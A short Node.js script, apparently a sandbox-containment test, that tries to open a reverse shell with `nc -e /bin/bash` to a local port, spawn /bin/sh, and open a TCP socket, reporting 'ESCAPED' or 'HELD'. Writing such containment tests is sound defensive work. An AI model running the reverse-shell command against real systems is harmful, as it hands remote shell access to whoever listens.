// SPDX-License-Identifier: MIT
// The same from node: child_process, and a socket joined to a shell.
const { execSync, spawnSync } = require("child_process");
const net = require("net");
const port = Number(process.argv.find((word) => word.startsWith("tcp=")).slice(4));
const end = (verdict, detail) => {
    console.log(verdict, detail);
    process.exit(verdict === "HELD" ? 0 : 1);
};
try {
    execSync(`nc -e /bin/bash 127.0.0.1 ${port}`, { stdio: "ignore" });
    end("ESCAPED", "nc");
} catch (error) {
    console.log("nc", error.code);
}
if (!spawnSync("/bin/sh", ["-c", "true"]).error) end("ESCAPED", "sh");
const socket = net.connect(port, "127.0.0.1", () => end("ESCAPED", "connected"));
socket.on("error", (error) => end("HELD", error.code));
